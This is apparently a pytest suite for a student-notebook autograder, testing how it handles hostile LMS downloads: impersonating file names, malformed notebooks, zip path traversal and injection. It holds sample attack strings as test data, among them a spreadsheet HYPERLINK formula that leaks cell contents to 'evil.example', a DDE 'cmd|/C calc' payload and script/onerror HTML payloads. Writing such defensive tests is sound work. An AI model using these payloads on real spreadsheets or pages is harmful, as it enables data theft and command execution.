"""A careless lecturer and a hostile student against the LMS reader and the workflow (no kernel):
names crafted to be read as another student's, notebooks that crash the reader, formulas in the
CSVs a spreadsheet opens, ambiguous --only and --extension, stale results kept after the key or
the class changed, marks read back for the wrong student, deadlines across a DST change."""
from __future__ import annotations

import csv
import json
from datetime import datetime
from pathlib import Path

import lms_fixtures as F
import pytest
from test_lms_workflow import FakeGrade, rows_of

from rnngrade import late, lms, manual, workflow

QUIET = {"progress": lambda m: None}
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def read(src, tmp_path, **kw):
    kw.setdefault("assignment", "01_forward")
    kw.setdefault("answers", ("rnn_step", "rnn_forward"))
    return lms.read(str(src), str(tmp_path / "into"), **kw)


# ------------------------------------------------------------------ names read as another's

def test_a_blackboard_file_name_cannot_claim_another_username():
    p = lms.parse_path([("Assignment 1_mallory_attempt_2026-12-07-10-00-00_x_bob_attempt_"
                         "2099-01-01-00-00-00_hw.ipynb")])
    assert (p.lms, p.lms_id, p.submitted) == ("blackboard", "mallory",
                                               datetime(2026, 12, 7, 10, 0, 0))


def test_a_moodle_flat_file_name_cannot_claim_another_participant():
    p = lms.parse_path([("Mallory M_200_assignsubmission_file_Bob B_100_assignsubmission_file_"
                         "hw.ipynb")])
    assert (p.lms, p.name, p.lms_id) == ("moodle", "Mallory M", "200")


def test_a_moodle_subfolder_cannot_claim_another_participant():
    """Moodle keeps the folders a student made: the outermost folder is the LMS's."""
    p = lms.parse_path(["Mallory M_200_assignsubmission_file", "Bob B_100_assignsubmission_file",
                        "01_forward.ipynb"])
    assert (p.name, p.lms_id) == ("Mallory M", "200")


def test_a_file_in_a_moodle_folder_named_like_blackboard_stays_the_folders():
    p = lms.parse_path(["Mallory M_200_assignsubmission_file",
                        "A_bob_attempt_2099-01-01-00-00-00_01_forward.ipynb"])
    assert (p.lms, p.name, p.lms_id, p.submitted) == ("moodle", "Mallory M", "200", None)


def test_an_impersonation_does_not_replace_the_victims_work(tmp_path):
    dl = tmp_path / "bb"
    F._put(dl, "Assignment 1_bob_attempt_2026-12-07-10-00-00_01_forward.ipynb", F.full())
    F._put(dl, "Assignment 1_mallory_attempt_2026-12-07-11-00-00_x_bob_attempt_"
               "2026-12-07-12-00-00_01_forward.ipynb", F.blank())
    c = read(dl, tmp_path)
    by_id = {r.lms_id: r.source for r in c.records}
    assert by_id["bob"].startswith("Assignment 1_bob_attempt_2026-12-07-10-00-00")
    assert "mallory" in by_id


def test_an_id_is_not_swallowed_by_a_name_ending_in_its_digits():
    """'Ann 12' with id 2 and 'Ann' with id 12 must not share a key."""
    assert lms.key_of("Ann 12", "2") != lms.key_of("Ann", "12")
    assert lms.key_of("Ann 12", "2") == "Ann_12_2"
    assert lms.key_of("Grace Hopper", "ghopper") == "Grace_Hopper_ghopper"


# ------------------------------------------------------------------ notebooks that crash the reader

@pytest.mark.parametrize("nb", [
    {"cells": [{"cell_type": "code", "metadata": ["not", "a", "dict"], "source": ""}],
     "metadata": {}},
    {"cells": [{"cell_type": "code", "metadata": "x", "source": ""}], "metadata": {}},
])
def test_cell_metadata_of_the_wrong_type_is_not_a_crash(tmp_path, nb):
    F._put(tmp_path / "dl", "ann.ipynb", nb)
    c = read(tmp_path / "dl", tmp_path)
    assert not c.records and "answer cells missing" in c.not_graded[0].reason


def test_deeply_nested_json_is_unreadable_not_a_crash(tmp_path):
    deep = b'{"cells": [], "metadata": {"x": ' + b"[" * 200_000 + b"]" * 200_000 + b"}}"
    F._put(tmp_path / "dl", "ann.ipynb", deep)
    F._put(tmp_path / "dl", "bob.ipynb", F.full())
    c = read(tmp_path / "dl", tmp_path)
    assert [r.name for r in c.records] == ["bob"]
    assert c.not_graded[0].unreadable and "nested" in c.not_graded[0].reason


def test_nesting_below_pythons_limit_but_beyond_any_notebook_is_refused(tmp_path):
    nb = F.full()
    nb["metadata"]["x"] = json.loads("[" * 500 + "]" * 500)
    F._put(tmp_path / "dl", "ann.ipynb", nb)
    c = read(tmp_path / "dl", tmp_path)
    assert not c.records and "nested" in c.not_graded[0].reason


# ------------------------------------------------------------------ formulas in the CSVs

EVIL = '=HYPERLINK("evil.example?"&A1,"click")'


def test_the_written_answers_csv_holds_no_formula(tmp_path):
    key = json.loads(json.dumps(F.with_written(F._load(F.KEY1), F.PROMPT + F.MODEL)))
    dl = tmp_path / "dl"
    F._put(dl, f"{EVIL}_100_assignsubmission_file/01_forward.ipynb",
           F.with_written(F.full(), "@SUM(1+1)*cmd|' /C calc'!A0"))
    F._put(dl, "Bob_101_assignsubmission_file/01_forward.ipynb",
           F.with_written(F.full(), "-2+3 is the answer"))
    c = read(dl, tmp_path)
    _, csv_path = manual.export(key, c.records, str(tmp_path / "mark"))
    with open(csv_path, encoding="utf-8-sig", newline="") as f:
        cells_ = [v for row in csv.reader(f) for v in row]
    assert not [v for v in cells_ if v.startswith(FORMULA_START)]
    assert any("HYPERLINK" in v for v in cells_)          # still shown, as text


def test_the_gradebooks_hold_no_formula(tmp_path):
    dl = tmp_path / "dl"
    F._put(dl, f"{EVIL}_100_assignsubmission_file/01_forward.ipynb", F.full())
    F._put(dl, f"{EVIL}_100_assignsubmission_file/+cmd.py", "x = 1\n")
    F._put(dl, "@Bob_101_assignsubmission_file/01_forward.ipynb", F.half())
    F._put(dl, "=evil.ipynb", "not json")
    out = tmp_path / "out"
    workflow.grade_class(str(F.KEY1), str(dl), str(out), grade=FakeGrade(), **QUIET)
    for name in ("gradebook.csv", "gradebook_moodle.csv"):
        with open(out / name, encoding="utf-8", newline="") as f:
            cells_ = [v for row in csv.reader(f) for v in row]
        assert not [v for v in cells_ if v.startswith(FORMULA_START)], name


def test_html_in_a_name_or_an_answer_is_shown_as_text(tmp_path):
    key = json.loads(json.dumps(F.with_written(F._load(F.KEY1), F.PROMPT + F.MODEL)))
    dl = tmp_path / "dl"
    F._put(dl, "<script>alert(1)<\u2044script>_100_assignsubmission_file/01_forward.ipynb",
           F.with_written(F.full(), "<img src=x onerror=alert(2)>"))
    c = read(dl, tmp_path)
    html_path, _ = manual.export(key, c.records, str(tmp_path / "mark"))
    page = Path(html_path).read_text(encoding="utf-8")
    assert "<script>" not in page and "<img" not in page and "&lt;img" in page


# ------------------------------------------------------------------ --only and --extension

def _two_ann_lees(tmp_path):
    dl = tmp_path / "dl"
    F._put(dl, "Ann Lee_100_assignsubmission_file/01_forward.ipynb", F.full())
    F._put(dl, "Ann Lee_101_assignsubmission_file/01_forward.ipynb", F.half())
    F._put(dl, "Bob_102_assignsubmission_file/01_forward.ipynb", F.half())
    return dl


def test_only_matching_two_students_is_refused(tmp_path):
    dl, out = _two_ann_lees(tmp_path), str(tmp_path / "out")
    fake = FakeGrade()
    workflow.grade_class(str(F.KEY1), str(dl), out, grade=fake, **QUIET)
    with pytest.raises(ValueError, match="argument 'only': 'ann lee' matches 2 students"):
        workflow.grade_class(str(F.KEY1), str(dl), out, only=["ann lee"], grade=fake, **QUIET)
    workflow.grade_class(str(F.KEY1), str(dl), out, only=["101"], grade=fake, **QUIET)
    assert fake.calls[-1] == ["Ann_Lee_101"]


def test_a_student_named_like_another_ones_id_gets_no_extension(tmp_path):
    dl = tmp_path / "dl"
    F._put(dl, "Bob_23456_assignsubmission_file/01_forward.ipynb", F.full())
    F._put(dl, "23456_999_assignsubmission_file/01_forward.ipynb", F.full())
    with pytest.raises(ValueError, match="argument 'extension': '23456' matches 2 students"):
        workflow.grade_class(str(F.KEY1), str(dl), str(tmp_path / "out"), grade=FakeGrade(),
                             policy={"deadline": "2026-12-07 17:00", "penalty": "zero",
                                     "extensions": ["23456=2026-12-09 17:00"]}, **QUIET)


def test_an_extension_for_no_one_is_refused_before_grading(tmp_path):
    fake = FakeGrade()
    with pytest.raises(ValueError, match="argument 'extension': no student 'Jose Nunez'"):
        workflow.grade_class(str(F.KEY1), str(F.moodle(tmp_path / "m")), str(tmp_path / "o"),
                             grade=fake, policy={"deadline": "2026-12-07 17:00",
                                                 "penalty": "zero",
                                                 "extensions": ["Jose Nunez=2026-12-09 17:00"]},
                             **QUIET)
    assert fake.calls == []


def test_an_extension_by_name_ignores_case_and_unicode_form(tmp_path):
    dl = tmp_path / "bb"
    F.blackboard(dl)
    out = tmp_path / "out"
    decomposed = "jos\u0065\u0301 \u00d1u\u0301n\u0303ez"        # not NFC, lower case
    workflow.grade_class(str(F.KEY1), str(dl), str(out), grade=FakeGrade(),
                         policy={"deadline": "2026-12-07 12:00", "penalty": "zero",
                                 "extensions": [f"{decomposed}=2026-12-09 17:00"]}, **QUIET)
    jose = next(r for r in rows_of(out) if r["name"] == "José Ñúñez")
    assert jose["late"] == "" and jose["score"] == jose["raw_score"]


# ------------------------------------------------------------------ stale results

def test_a_kept_result_is_never_another_students(tmp_path):
    """Keys shift when a newcomer's name collides: the kept result must follow the student."""
    dl, out = tmp_path / "dl", str(tmp_path / "out")
    F._put(dl, "Ann-Lee/01_forward.ipynb", F.full())
    F._put(dl, "Bob/01_forward.ipynb", F.half())
    fake = FakeGrade()
    workflow.grade_class(str(F.KEY1), str(dl), out, grade=fake, **QUIET)
    F._put(dl, "Ann Lee/01_forward.ipynb", F.blank())           # a newcomer, sorts first
    workflow.grade_class(str(F.KEY1), str(dl), out, only=["Ann-Lee"], grade=fake, **QUIET)
    got = {r["name"]: r["score"] for r in rows_of(out) if r["student"]}
    assert got["Ann-Lee"] == "12" and got["Ann Lee"] in ("", "0")


def test_new_only_regrades_everyone_after_the_key_changed(tmp_path):
    dl, out = F.moodle(tmp_path / "m"), str(tmp_path / "out")
    key = tmp_path / "key.ipynb"
    key.write_text(F.KEY1.read_text(encoding="utf-8"), encoding="utf-8")
    fake = FakeGrade()
    workflow.grade_class(str(key), str(dl), out, grade=fake, **QUIET)
    nb = json.loads(key.read_text(encoding="utf-8"))
    nb["cells"].append({"cell_type": "markdown", "id": "a-fix", "metadata": {}, "source": "A fix."})
    key.write_text(json.dumps(nb), encoding="utf-8")
    s = workflow.grade_class(str(key), str(dl), out, new_only=True, grade=fake, **QUIET)
    assert len(s.graded) == 3


def test_a_result_kept_from_an_older_key_says_so(tmp_path):
    dl, out = F.moodle(tmp_path / "m"), str(tmp_path / "out")
    key = tmp_path / "key.ipynb"
    key.write_text(F.KEY1.read_text(encoding="utf-8"), encoding="utf-8")
    workflow.grade_class(str(key), str(dl), out, grade=FakeGrade(), **QUIET)
    nb = json.loads(key.read_text(encoding="utf-8"))
    nb["cells"].append({"cell_type": "markdown", "id": "a-fix", "metadata": {}, "source": "A fix."})
    key.write_text(json.dumps(nb), encoding="utf-8")
    workflow.grade_class(str(key), str(dl), out, only=["123456"], grade=FakeGrade(), **QUIET)
    reasons = {r["name"]: r["reason"] for r in rows_of(out) if r["student"]}
    assert "older version of the key" not in reasons["José Ñúñez"]
    assert "older version of the key" in reasons["Grace Hopper"]


def test_another_assignments_results_are_never_kept(tmp_path):
    out = str(tmp_path / "out")
    workflow.grade_class(str(F.KEY1), str(F.moodle(tmp_path / "m")), out, grade=FakeGrade(),
                         **QUIET)
    key2 = Path(F.ROOT, "assignments", "02_softmax", "key.ipynb")
    with pytest.raises(ValueError, match="argument 'out'.*01_forward"):
        workflow.grade_class(str(key2), str(tmp_path / "m"), out, only=["123456"],
                             grade=FakeGrade(), **QUIET)


# ------------------------------------------------------------------ marks read back

def _marked(tmp_path, rows):
    key = tmp_path / "key.ipynb"
    key.write_text(json.dumps(F.with_written(F._load(F.KEY1), F.PROMPT + F.MODEL)))
    dl, out = tmp_path / "dl", str(tmp_path / "out")
    F._put(dl, "Ann_100_assignsubmission_file/01_forward.ipynb",
           F.with_written(F.full(), "Ann's words"))
    F._put(dl, "Bob_101_assignsubmission_file/01_forward.ipynb",
           F.with_written(F.full(), "Bob's words"))
    workflow.grade_class(str(key), str(dl), out, grade=FakeGrade(), **QUIET)
    marks = tmp_path / "marks.csv"
    with open(marks, "w", encoding="utf-8", newline="") as f:
        w = csv.writer(f)
        w.writerow(manual.COLUMNS)
        w.writerows(rows)
    return key, marks, out


def test_a_mark_whose_lms_id_is_another_students_is_refused(tmp_path):
    key, marks, out = _marked(tmp_path, [
        ["Ann_100", "Ann", "101", "explain_state", "3", "3", "", ""]])
    with pytest.raises(ValueError, match="line 2.*Ann_100.*101"):
        workflow.import_written(str(key), str(marks), out)


def test_a_student_marked_twice_differently_is_refused(tmp_path):
    key, marks, out = _marked(tmp_path, [
        ["Ann_100", "Ann", "100", "explain_state", "3", "3", "", ""],
        ["Ann_100", "Ann", "100", "explain_state", "3", "1", "", ""]])
    with pytest.raises(ValueError, match="line 3.*marked twice"):
        workflow.import_written(str(key), str(marks), out)


# ------------------------------------------------------------------ time zones

def test_lateness_across_a_dst_change_counts_real_hours():
    """Deadline 00:30 on the night clocks go forward at 01:00 (Europe/London, 29 March 2026);
    handed in at 02:10 local time: 40 real minutes late, one started hour, not two."""
    pol = late.Policy(deadline=late.parse_time("2026-03-29 00:30"),
                      penalty=late.parse_penalty("10%/hour"), timezone="Europe/London")
    out = late.apply(pol, 10, 10, submitted=datetime(2026, 3, 29, 2, 10))
    assert out.reason == "late by 40 min: penalty 10% of the points"


def test_an_unknown_time_zone_is_refused_naming_the_argument():
    with pytest.raises(ValueError, match="argument 'timezone'"):
        workflow.policy_from({"deadline": "2026-12-07 17:00", "penalty": "zero",
                              "timezone": "Mars/Olympus"})


def test_a_deadline_without_any_submission_time_is_reported(tmp_path):
    """Moodle's names carry no time: a deadline without --times would find everyone on time."""
    said = []
    workflow.grade_class(str(F.KEY1), str(F.moodle(tmp_path / "m")), str(tmp_path / "o"),
                         grade=FakeGrade(), policy={"deadline": "2026-12-07 17:00",
                                                    "penalty": "zero"}, progress=said.append)
    assert any("no submission time" in m for m in said)
    rows = rows_of(tmp_path / "o")
    assert all("no submission time" in r["reason"] for r in rows if r["student"])


# ------------------------------------------------------------------ one convention per download

def test_a_canvas_file_named_like_blackboard_keeps_its_late_flag(tmp_path):
    """A late Canvas student names the upload like a Blackboard attempt of their choosing."""
    dl = tmp_path / "cv"
    F.canvas(dl)
    F._put(dl, "malloryeve_LATE_11111_789099_x_eve_attempt_2026-12-01-00-00-00_01_forward.ipynb",
           F.full())
    c = read(dl, tmp_path)
    eve = next(r for r in c.records if "eve" in r.key)
    assert (eve.lms, eve.lms_id, eve.late, eve.submitted) == ("canvas", "11111", True, None)


def test_a_blackboard_assignment_named_like_canvas_stays_blackboard(tmp_path):
    dl = tmp_path / "bb"
    for user, stamp in (("ghopper", "2026-12-07-14-03-12"), ("jnunez", "2026-12-07-16-59-00")):
        F._put(dl, f"Lab_1_2_final_{user}_attempt_{stamp}_01_forward.ipynb", F.full())
    c = read(dl, tmp_path)
    assert sorted((r.lms, r.lms_id) for r in c.records) == [("blackboard", "ghopper"),
                                                           ("blackboard", "jnunez")]


def test_a_blackboard_like_name_with_an_impossible_time_is_not_a_crash(tmp_path):
    F._put(tmp_path / "dl", "hoppergrace_23456_789012_a_b_attempt_2026-13-45-99-99-99_x.ipynb",
           F.full())
    c = read(tmp_path / "dl", tmp_path)
    assert [(r.lms, r.lms_id) for r in c.records] == [("canvas", "23456")]


# ------------------------------------------------------------------ a rerun's options

def test_a_rerun_with_one_late_option_keeps_the_others(tmp_path):
    """``--only X --grace 15m`` after a graded run must not drop its deadline and penalty."""
    out, dl = str(tmp_path / "out"), str(F.blackboard(tmp_path / "bb"))
    workflow.grade_class(str(F.KEY1), dl, out, grade=FakeGrade(),
                         policy={"deadline": "2026-12-07 17:00", "penalty": "10%/day"}, **QUIET)
    workflow.grade_class(str(F.KEY1), dl, out, grade=FakeGrade(), only=["wxm"],
                         policy={"grace": "15m"}, **QUIET)
    got = {r["name"]: (r["late"], r["score"]) for r in rows_of(out) if r["student"]}
    assert got["Grace Hopper"] == ("yes", "10.8") and got["王小明"] == ("", "12")


# ------------------------------------------------------------------ a careless lecturer's files

def test_a_linked_student_folder_is_reported_not_skipped(tmp_path):
    real = tmp_path / "elsewhere" / "Ann_100_assignsubmission_file"
    F._put(real, "01_forward.ipynb", F.full())
    dl = tmp_path / "dl"
    F._put(dl, "Bob_101_assignsubmission_file/01_forward.ipynb", F.full())
    (dl / "Ann_100_assignsubmission_file").symlink_to(real, target_is_directory=True)
    c = read(dl, tmp_path)
    assert [r.name for r in c.records] == ["Bob"] and not c.ok
    assert c.not_graded[0].source == "Ann_100_assignsubmission_file"
    assert "link" in c.not_graded[0].reason


def test_marks_saved_by_excel_as_windows_1252_are_read(tmp_path):
    key, marks, out = _marked(tmp_path, [])
    text = ("student,name,lms_id,question,max_points,points,comment,answer\r\n"
            "Ann_100,Ann,100,explain_state,3,2,très bien,\r\n")
    marks.write_bytes(text.encode("cp1252"))
    n, rows = workflow.import_written(str(key), str(marks), out)
    ann = next(r for r in rows if r["name"] == "Ann")
    assert n == 1 and ann["written:explain_state"] == 2


def test_a_mark_above_what_a_changed_key_gives_is_not_counted_in_full(tmp_path):
    key, marks, out = _marked(tmp_path, [
        ["Ann_100", "Ann", "100", "explain_state", "3", "3", "", ""]])
    workflow.import_written(str(key), str(marks), out)
    nb = json.loads(key.read_text(encoding="utf-8"))
    nb["cells"][-1]["metadata"]["rnngrade"]["points"] = 2
    key.write_text(json.dumps(nb), encoding="utf-8")
    rows = workflow.rebuild(str(key), out)
    ann = next(r for r in rows if r["name"] == "Ann")
    assert ann["written:explain_state"] <= 2 and "re-mark" in ann["reason"]


def test_a_written_cell_whose_source_is_not_text_is_not_a_crash(tmp_path):
    key = json.loads(json.dumps(F.with_written(F._load(F.KEY1), F.PROMPT + F.MODEL)))
    dl = tmp_path / "dl"
    nb = F.with_written(F.full(), "x")
    nb["cells"][-1]["source"] = [1, None, {"a": 2}]
    F._put(dl, "Ann_100_assignsubmission_file/01_forward.ipynb", nb)
    F._put(dl, "Bob_101_assignsubmission_file/01_forward.ipynb", F.with_written(F.full(), "ok"))
    c = read(dl, tmp_path)
    html_path, _ = manual.export(key, c.records, str(tmp_path / "mark"))
    assert "ok" in Path(html_path).read_text(encoding="utf-8")


def test_blank_rows_a_spreadsheet_leaves_are_skipped(tmp_path):
    key, marks, out = _marked(tmp_path, [
        ["Ann_100", "Ann", "100", "explain_state", "3", "2", "", ""],
        ["", "", "", "", "", "", "", ""], [" ", "", "", "", "", "", "", ""]])
    n, _ = workflow.import_written(str(key), str(marks), out)
    assert n == 1


def test_the_cli_reports_a_folder_given_as_the_marks_file(tmp_path, capsys):
    from rnngrade import cli
    key, _, out = _marked(tmp_path, [])
    assert cli.main(["import-written", str(key), str(tmp_path), "--out", out]) == 2
    assert "rnn-grade:" in capsys.readouterr().err


@pytest.mark.parametrize("spec", ["10%/day, max 50%, max 80%",
                                  "10%/day, zero after 3 days, zero after 1 day"])
def test_a_penalty_saying_one_thing_twice_is_refused(spec):
    with pytest.raises(ValueError, match="argument 'penalty'.*twice"):
        late.parse_penalty(spec)


def test_a_big_file_that_is_not_a_notebook_is_not_read_and_fails_nothing(tmp_path, monkeypatch):
    monkeypatch.setattr(lms, "MAX_BYTES", 20_000)
    dl = tmp_path / "dl"
    F._put(dl, "Ann_100_assignsubmission_file/01_forward.ipynb", F.half())
    F._put(dl, "Ann_100_assignsubmission_file/lecture.mp4", b"\0" * 50_000)
    F._put(dl, "Ann_100_assignsubmission_file/notes.pdf", b"%PDF" * 1000)
    opened = []
    real_open = open

    def spy(path, *a, **kw):
        opened.append(str(path))
        return real_open(path, *a, **kw)
    monkeypatch.setattr("builtins.open", spy)
    c = read(dl, tmp_path)
    monkeypatch.setattr("builtins.open", real_open)
    assert c.ok and [r.name for r in c.records] == ["Ann"]
    assert "not a notebook (.mp4)" in c.not_graded[0].reason
    assert not [p for p in opened if p.endswith((".mp4", ".pdf"))]


def test_a_folder_of_notebooks_too_large_in_total_is_refused(tmp_path, monkeypatch):
    monkeypatch.setattr(lms, "MAX_TOTAL", 1000)
    for who in ("ann", "bob", "cy"):
        F._put(tmp_path / "dl", f"{who}.ipynb", {"cells": [], "pad": "x" * 400})
    with pytest.raises(ValueError, match="SUBMISSIONS: the notebooks under .* more than"):
        read(tmp_path / "dl", tmp_path, answers=())


def test_a_kept_result_of_a_file_since_replaced_says_so(tmp_path):
    dl, out = F.moodle(tmp_path / "m"), str(tmp_path / "out")
    fake = FakeGrade()
    workflow.grade_class(str(F.KEY1), str(dl), out, grade=fake, **QUIET)
    F._put(dl, "Grace Hopper_123458_assignsubmission_file/01_forward.ipynb", F.blank())
    workflow.grade_class(str(F.KEY1), str(dl), out, only=["123456"], grade=fake, **QUIET)
    grace = next(r for r in rows_of(out) if r["student"] == "Grace_Hopper_123458")
    assert grace["score"] == "12" and "a newer file is in the download" in grace["reason"]
    workflow.grade_class(str(F.KEY1), str(dl), out, new_only=True, grade=fake, **QUIET)
    grace = next(r for r in rows_of(out) if r["student"] == "Grace_Hopper_123458")
    assert fake.calls[-1] == ["Grace_Hopper_123458"] and grace["score"] == "0"
    assert "newer file" not in grace["reason"]


def test_a_number_too_long_for_python_is_unreadable_not_a_crash(tmp_path):
    F._put(tmp_path / "dl", "ann.ipynb", b'{"cells": [], "metadata": {"x": ' + b"1" * 5000 + b"}}")
    F._put(tmp_path / "dl", "bob.ipynb", F.full())
    c = read(tmp_path / "dl", tmp_path)
    assert [r.name for r in c.records] == ["bob"] and c.not_graded[0].unreadable


@pytest.mark.parametrize("name", ["../../outside", "a/b", ".hidden", "=cmd"])
def test_a_written_question_name_that_is_no_file_name_is_refused(name):
    key = F.with_written(F._load(F.KEY1), F.PROMPT, question=name)
    with pytest.raises(ValueError, match="key: written question name"):
        manual.questions(key)


def test_answers_exported_into_the_graded_folder_carry_its_keys(tmp_path):
    key = tmp_path / "key.ipynb"
    key.write_text(json.dumps(F.with_written(F._load(F.KEY1), F.PROMPT + F.MODEL)))
    dl, out = tmp_path / "dl", str(tmp_path / "out")
    F._put(dl, "Ann-Lee/01_forward.ipynb", F.with_written(F.full(), "Ann-Lee's words"))
    F._put(dl, "Bob/01_forward.ipynb", F.with_written(F.full(), "Bob's words"))
    workflow.grade_class(str(key), str(dl), out, grade=FakeGrade(), **QUIET)
    F._put(dl, "Ann Lee/01_forward.ipynb", F.with_written(F.blank(), "Ann Lee's words"))
    workflow.grade_class(str(key), str(dl), out, new_only=True, grade=FakeGrade(), **QUIET)
    _, csv_path, _ = workflow.export_written(str(key), str(dl), out)
    with open(csv_path, encoding="utf-8-sig", newline="") as f:
        got = {r["answer"]: r["student"] for r in csv.DictReader(f)}
    state = workflow.load_state(out)["students"]
    assert state[got["Ann-Lee's words"]]["name"] == "Ann-Lee"
    assert state[got["Ann Lee's words"]]["name"] == "Ann Lee"


def test_a_blackboard_attempt_with_no_file_has_a_row(tmp_path):
    dl = tmp_path / "bb"
    F.blackboard(dl)
    F._put(dl, "Assignment 1_aturing_attempt_2026-12-07-12-00-00.txt",
           F.RECEIPT.format(name="Alan Turing", user="aturing", clock="12:00:00",
                            stamp="2026-12-07-12-00-00"))
    c = read(dl, tmp_path)
    turing = [n for n in c.not_graded if n.lms_id == "aturing"]
    assert len(turing) == 1 and turing[0].name == "Alan Turing"
    assert "no file" in turing[0].reason and not turing[0].unreadable


def test_a_key_of_four_byte_letters_still_fits_a_file_name(tmp_path):
    key = lms.key_of("\U00020000" * 100, "\U00020001" * 100)
    assert len((key + "_99.ipynb").encode("utf-8")) <= 255
    (tmp_path / (key + "_99.ipynb")).write_text("{}")


@pytest.mark.filterwarnings("ignore:Duplicate name")
def test_nul_long_absolute_and_colliding_member_names(tmp_path):
    import zipfile
    zpath, nb = tmp_path / "evil.zip", json.dumps(F.full())
    with zipfile.ZipFile(zpath, "w") as z:
        z.writestr("ann\0/../../x.ipynb", nb)
        z.writestr("/" + "a" * 300 + "/" + "b" * 5000 + ".ipynb", nb)
        z.writestr("C:/Windows/evil.ipynb", nb)
        z.writestr("Ann.ipynb", nb)
        z.writestr("Ann.ipynb", json.dumps(F.half()))        # the same name twice
        z.writestr("An\u0301n.ipynb", nb)
    before = {p.name for p in tmp_path.iterdir()}
    c = read(zpath, tmp_path)
    assert {p.name for p in tmp_path.iterdir()} == before | {"into"}
    keys = [r.key for r in c.records]
    assert len(keys) == len({k.casefold() for k in keys})
    assert all(len(k.encode()) <= 255 - len(".ipynb") for k in keys)


@pytest.mark.parametrize("theirs, ours, same", [
    ("100", "100", True), ("123", "00123", True), ("1.23457E+13", "12345678901234", True),
    ("101", "100", False), ("bob", "ghopper", False)])
def test_an_lms_id_a_spreadsheet_rewrote_is_still_its_student(theirs, ours, same):
    assert manual._same_id(theirs, ours) is same


def test_a_rerun_can_lift_the_deadline():
    merged = workflow.merge_policy({"deadline": "2026-12-07 17:00", "penalty": "zero",
                                    "extensions": ["a=2026-12-08 17:00"]},
                                   {"deadline": "none", "extensions": ["b=2026-12-09 17:00"]})
    assert "deadline" not in merged and merged["penalty"] == "zero"
    assert merged["extensions"] == ["a=2026-12-08 17:00", "b=2026-12-09 17:00"]


def test_a_very_long_answer_fits_one_spreadsheet_cell(tmp_path):
    key = json.loads(json.dumps(F.with_written(F._load(F.KEY1), F.PROMPT + F.MODEL)))
    dl = tmp_path / "dl"
    F._put(dl, "Ann_100_assignsubmission_file/01_forward.ipynb",
           F.with_written(F.full(), "blah " * 20_000))
    c = read(dl, tmp_path)
    html_path, csv_path = manual.export(key, c.records, str(tmp_path / "mark"))
    with open(csv_path, encoding="utf-8-sig", newline="") as f:
        row = next(csv.DictReader(f))
    assert len(row["answer"]) <= 32_767 and "cut at" in row["answer"]
    assert Path(html_path).read_text(encoding="utf-8").count("blah") == 20_000


def test_the_cli_refuses_an_unknown_time_zone_before_grading(tmp_path, capsys, monkeypatch):
    from rnngrade import cli, grading
    fake = FakeGrade()
    monkeypatch.setattr(grading, "grade", fake)
    dl = str(F.blackboard(tmp_path / "bb"))
    assert cli.main(["grade", str(F.KEY1), dl, "--out", str(tmp_path / "o"), "--deadline",
                     "2026-12-07 17:00", "--timezone", "Mars/Olympus"]) == 2
    assert "argument 'timezone'" in capsys.readouterr().err and fake.calls == []
    assert cli.main(["grade", str(F.KEY1), dl, "--out", str(tmp_path / "o"), "--deadline",
                     "2026-12-07 17:00", "--penalty", "10%/day",
                     "--timezone", "Europe/London"]) == 0


def test_a_zip_downloads_folder_stays_hidden_from_the_kernels(tmp_path, monkeypatch):
    """Every student's notebook is in the zip: the grading run gets a private copy of the
    chosen notebooks, never the zip or its folder (the sandbox binds nothing of the grader's
    disk: tests/test_grading_sandbox.py puts a download, zip included, next to a kernel)."""
    from rnngrade import grading
    seen = {}

    def fake_grade(key_path, folder, out, **kwargs):
        seen["folder"] = folder
        return FakeGrade()(key_path, folder, out, **kwargs)
    monkeypatch.setattr(grading, "grade", fake_grade)
    (tmp_path / "downloads").mkdir()
    src = F.zipped(F.moodle(tmp_path / "m"), tmp_path / "downloads" / "class.zip")
    workflow.grade_class(str(F.KEY1), str(src), str(tmp_path / "out"), **QUIET)
    assert not seen["folder"].startswith(str(tmp_path)) and "rg-lms-" in seen["folder"]
